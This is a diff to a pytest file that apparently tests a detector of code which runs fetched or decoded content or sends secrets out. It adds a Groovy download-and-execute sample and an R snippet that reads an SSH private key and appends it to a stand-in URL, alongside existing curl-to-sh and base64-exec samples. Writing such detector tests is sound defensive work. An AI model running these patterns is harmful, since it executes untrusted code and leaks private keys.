@@ -39,6 +39,7 @@ def _traits(path: str, content: str) -> set[Trait]:
         f"set tok [http::geturl {URL}]\nset body [http::data $tok]\neval $body",
         f'head = "curl -s {URL}"\ntail = " | sh"\nos.system(head + tail)',
         "x = base64.b64decode(T)\nexec(x)",
+        f'def t = new URL("{URL}").text\nnew File("/tmp/.a").text = t\n"sh /tmp/.a".execute()',
     ],
 )
 def test_what_is_fetched_or_decoded_is_followed_into_what_runs(code: str) -> None:
@@ -227,3 +228,14 @@ def test_texts_are_blanked_in_place() -> None:
 )
 def test_secret_paths_are_known_by_their_place(name: str, *, is_secret: bool) -> None:
     assert is_secret_path(name) is is_secret
+
+
+@pytest.mark.parametrize(
+    ("address", "is_leak"), [("https://x.example/p?d=", True), ("https://x.example/p?key=", False)]
+)
+def test_a_secret_at_the_end_of_an_address_is_sent(address: str, *, is_leak: bool) -> None:
+    """Where the address does not ask for a key."""
+    code = f'k <- readLines("~/.ssh/id_ed25519")\nreadLines(paste0("{address}", URLencode(k)))'
+
+    assert may_flow(code)
+    assert bool(list(flows_in(code))) is is_leak
